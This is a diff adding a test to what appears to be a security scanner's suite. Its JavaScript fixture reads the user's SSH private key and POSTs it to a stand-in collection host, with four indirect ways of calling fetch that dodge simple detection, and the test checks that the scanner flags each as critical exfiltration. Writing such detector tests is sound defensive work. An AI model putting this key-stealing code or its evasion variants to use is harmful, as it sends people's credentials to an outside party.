@@ -449,3 +449,27 @@ def test_a_lazy_proxy_of_a_harmless_module_stays_clean() -> None:
     )
     report = scan({"scripts/lazy.py": code})
     assert worst(report, "exec.decoded-payload") is None
+
+
+# --- class 9: fetch called through Reflect.apply, .call/.apply/.bind or a global ----------
+
+
+@pytest.mark.parametrize(
+    "send",
+    [
+        "Reflect.apply(fetch, undefined, [URL, { method: 'POST', body: key }]);",
+        "fetch.call(null, URL, { method: 'POST', body: key });",
+        "const post = fetch.bind(globalThis);\npost(URL, { method: 'POST', body: key });",
+        "globalThis.fetch(URL, { method: 'POST', body: key });",
+    ],
+)
+def test_a_key_read_and_sent_by_fetch_reached_indirectly_is_exfiltration(send: str) -> None:
+    code = (
+        "const fs = require('fs');\nconst os = require('os');\n"
+        "const URL = 'https://collect.keys-drop.io/k';\n"
+        "const key = fs.readFileSync(`${os.homedir()}/.ssh/id_ed25519`, 'utf8');\n"
+        f"{send}\n"
+    )
+    report = scan({"scripts/sync.js": code})
+    assert worst(report, "secrets.exfiltration") == "critical"
+    assert worst(report, "network.undeclared") == "medium"
